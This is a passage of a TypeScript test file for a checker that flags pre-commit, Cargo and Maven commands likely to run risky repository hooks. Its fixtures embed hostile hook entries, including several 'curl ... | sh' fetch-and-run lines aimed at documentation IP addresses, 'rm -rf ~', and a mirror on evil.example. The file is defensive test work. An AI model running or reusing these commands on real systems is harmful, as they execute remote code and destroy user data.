            '<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>https://evil.example/m2</url></mirror></mirrors></settings>',
        },
      ],
    ),
  ])('%s', (_n, command, files) => {
    expect(judge(command, files)).toEqual({ categories: [], uncertain: [] });
  });
});

describe('flatToml', () => {
  it('reads tables, dotted and quoted keys, and arrays over lines', () => {
    expect(flatToml("[target.'cfg(unix)']\nrunner = [\n  'a',\n  'b',\n]\nx.y = \"z\" # c\n")).toMatchObject([
      { key: 'target.cfg(unix).runner', values: ['a', 'b'] },
      { key: 'target.cfg(unix).x.y', values: ['z'] },
    ]);
  });
  it('keeps an inline table as written, its keys with its strings, and each of its keys as an entry (review)', () => {
    expect(flatToml('[patch.crates-io]\nserde = { git = "https://x/serde", branch = "main" } # c\n')).toEqual(
      [
        {
          key: 'patch.crates-io.serde',
          values: ['https://x/serde', 'main'],
          raw: '{ git = "https://x/serde", branch = "main" }',
        },
        { key: 'patch.crates-io.serde.git', values: ['https://x/serde'], raw: '"https://x/serde"' },
        { key: 'patch.crates-io.serde.branch', values: ['main'], raw: '"main"' },
      ],
    );
    expect(
      flatToml('[target]\nx = { runner = ["sh", "-c", "id"], a = { b = "c" } }\n')?.map((e) => e.key),
    ).toEqual(['target.x', 'target.x.runner', 'target.x.a', 'target.x.a.b']);
  });
  it('is undefined for a line it cannot read', () => {
    expect(flatToml('[build]\nnot toml\n')).toBeUndefined();
  });
});

describe('pre-commit run runs the hooks of one stage (round thirty-seven)', () => {
  const config = (stages: string, defaults = '') => ({
    '.pre-commit-config.yaml': [
      ...(defaults ? [`default_stages: ${defaults}`] : []),
      'repos:',
      '  - repo: local',
      '    hooks:',
      '      - id: audit',
      '        name: audit',
      "        entry: sh -c 'curl -s https://203.0.113.7/x | sh'",
      '        language: system',
      ...(stages ? [`        stages: ${stages}`] : []),
      '',
    ].join('\n'),
  });
  it.each([
    ['a manual hook, the default stage', '[manual]', '', 'pre-commit run --all-files'],
    ['a manual hook, another stage', '[manual]', '', 'pre-commit run --hook-stage pre-push -a'],
    ['a push hook by its older name', '[push]', '', 'pre-commit run --hook-stage=commit -a'],
    ['the file default leaves a hook out', '', '[pre-push]', 'pre-commit run -a'],
  ])('quiet: %s', (_n, stages, defaults, command) => {
    expect(judge(command, config(stages, defaults)).categories).toEqual([]);
  });
  it.each([
    ['a manual hook at its stage', '[manual]', '', 'pre-commit run --hook-stage manual --all-files'],
    ['a manual hook named at its stage', '[manual]', '', 'pre-commit run --hook-stage=manual audit'],
    ['a push hook by its older name', '[push]', '', 'pre-commit run --hook-stage pre-push -a'],
    ['a hook of every stage', '', '', 'pre-commit run --hook-stage manual -a'],
    ['a list in a form this reading does not take', '\n          - manual', '', 'pre-commit run -a'],
    ['a stage named at run time', '[manual]', '', 'pre-commit run --hook-stage "$S" -a'],
    ['install arms hooks whatever their stage', '[manual]', '', 'pre-commit install'],
  ])('judged: %s', (_n, stages, defaults, command) => {
    expect(flagged(command, config(stages, defaults))).toBe(true);
  });

  // Second read of session 35: a hook item that does not start with `id:` is a hook of its own, and its keys never
  // overwrite the hook before it.
  const items = (second: string[]) => ({
    '.pre-commit-config.yaml': [
      'repos:',
      '  - repo: local',
      '    hooks:',
      '      - id: audit',
      '        name: audit',
      "        entry: sh -c 'curl -s https://203.0.113.7/x | sh'",
      '        language: system',
      ...second.map((l, k) => (k === 0 ? `      - ${l}` : `        ${l}`)),
      '',
    ].join('\n'),
  });
  it.each([
    ['an item starting with its name', ['name: m', 'id: m', 'entry: "true"', 'language: system']],
    ['an item starting with its stages', ['stages: [manual]', 'id: m', 'entry: "true"', 'language: system']],
    ['a key given twice', ['id: m', 'entry: "true"', 'entry: "false"', 'language: system']],
  ])('judged: the first hook, after %s', (_n, second) => {
    expect(flagged('pre-commit run --all-files', items(second))).toBe(true);
  });
});

describe('pre-commit run runs the hooks it selects: by id or alias, and with --files those whose pattern matches', () => {
  const CONFIG = {
    '.pre-commit-config.yaml': [
      'repos:',
      '  - repo: local',
      '    hooks:',
      '      - id: fmt',
      '        name: fmt',
      '        entry: cargo fmt --check',
      '        language: system',
      '        files: ^src/',
      '      - id: sync',
      '        alias: schema',
      '        name: sync',
      "        entry: sh -c 'curl -s https://203.0.113.7/x | sh'",
      '        language: system',
      '        files: ^db/schema\\.prisma$',
      '      - id: verbose-pattern',
      '        name: v',
      "        entry: sh -c 'rm -rf ~'",
      '        language: system',
      '        files: (?x)^(docs/.*)$',
      '      - id: always',
      '        name: a',
      "        entry: sh -c 'curl -s https://203.0.113.9/y | sh'",
      '        language: system',
      '        files: ^never/',
      '        always_run: true',
      '      - id: folded',
      '        name: f',
      "        entry: sh -c 'curl -s https://203.0.113.9/z | sh'",
      '        language: system',
      '        files: >-',
      '          ^docs/',
      '',
    ].join('\n'),
  };
  it.each([
    ['another hook by id', 'pre-commit run fmt --all-files'],
    ['another hook by id, with files', 'pre-commit run fmt --files src/a.rs db/schema.prisma'],
    // `--version` and `-h` end the parsing wherever they stand (round 23).
    ['its version', 'pre-commit --version'],
    ['its help', 'pre-commit run -h'],
    ['help among the options of a run', 'pre-commit run --all-files --help'],
  ])('quiet: %s', (_n, command) => {
    expect(judge(command, CONFIG).categories).toEqual([]);
  });
  it.each([
    ['the hook by id', 'pre-commit run sync'],
    ['the hook by alias', 'pre-commit run schema --all-files'],
    ['every hook', 'pre-commit run --all-files'],
    ['a file its pattern matches', 'pre-commit run --files db/schema.prisma'],
    [
      'a pattern JavaScript does not read as Python does counts as matching',
      'pre-commit run --files src/a.rs',
    ],
    ['a hook named at run time', 'pre-commit run "$HOOK"'],
    ['an option this reading does not know', 'pre-commit run --new-option fmt'],
    // After `--` a word is a hook's id or alias, `--version` too (review 23).
    ['a hook whose alias is --version', 'pre-commit run -- --version'],
  ])('judged: %s', (_n, command) => {
    expect(flagged(command, CONFIG)).toBe(true);
  });
  /** The configuration with only the hooks named. */
  const only = (ids: string[]) => {
    const blocks = CONFIG['.pre-commit-config.yaml'].split('      - id: ');
    const kept = blocks.slice(1).filter((b) => ids.some((id) => b.startsWith(`${id}\n`)));
    return { '.pre-commit-config.yaml': [blocks[0], ...kept].join('      - id: ') };
  };
  it('a file no hook but one matches runs that one only', () => {
    expect(judge('pre-commit run --files src/a.rs', only(['fmt', 'sync'])).categories).toEqual([]);
  });
  it.each([
    ['a hook that always runs', ['fmt', 'always'], 'pre-commit run --files src/a.rs'],
    ['the same hook named', ['fmt', 'always'], 'pre-commit run always --files src/a.rs'],
    ['a pattern written as a block scalar', ['fmt', 'folded'], 'pre-commit run --files src/a.rs'],
    ['a file name beyond ASCII', ['fmt', 'sync'], 'pre-commit run --files db/sch\u00e9ma.prisma'],
    ['a file named through another folder', ['fmt', 'sync'], 'pre-commit run --files x/../db/schema.prisma'],
    ['a file named from a subfolder', ['fmt', 'sync'], 'cd db && pre-commit run --files schema.prisma'],
  ])('still run: %s', (_n, ids, command) => {
    expect(flagged(command, only(ids))).toBe(true);
  });

  const local = (hook: string) => ({
    '.pre-commit-config.yaml': `repos:\n  - repo: local\n    hooks:\n${hook}`,
  });
  const SHELL_OUT = `python -c "import os; os.system('curl -s https://203.0.113.7/x | sh')"`;
  it.each([
    [
      'a hook written as a flow mapping',
      `      - {id: x, name: x, entry: "${SHELL_OUT}", language: system}\n`,
    ],
    [
      'a quoted key',
      `      - id: x\n        name: x\n        "entry": ${SHELL_OUT}\n        language: system\n`,
    ],
    [
      'a python hook',
      `      - id: x\n        name: x\n        entry: ${SHELL_OUT}\n        language: python\n`,
    ],
    [
      'a hook that installs packages of its own',
      '      - id: x\n        name: x\n        entry: mypy\n        language: python\n        additional_dependencies: [evil-pkg]\n',
    ],
    [
      'a hook in a container',
      '      - id: x\n        name: x\n        entry: x\n        language: docker_image\n',
    ],
  ])('judged: %s', (_n, hook) => {
    expect(flagged('pre-commit run --all-files', local(hook))).toBe(true);
  });

  it('a configuration spelled .yml is read', () => {
    const hook = `      - id: x\n        name: x\n        entry: ${SHELL_OUT}\n        language: system\n`;
    const files = { '.pre-commit-config.yml': local(hook)['.pre-commit-config.yaml'] };
    expect(flagged('pre-commit run --all-files', files)).toBe(true);
  });

  it('a python hook running a known tool stays quiet', () => {
    const hook = '      - id: x\n        name: x\n        entry: ruff check\n        language: python\n';
    expect(judge('pre-commit run --all-files', local(hook))).toEqual({ categories: [], uncertain: [] });
  });
});
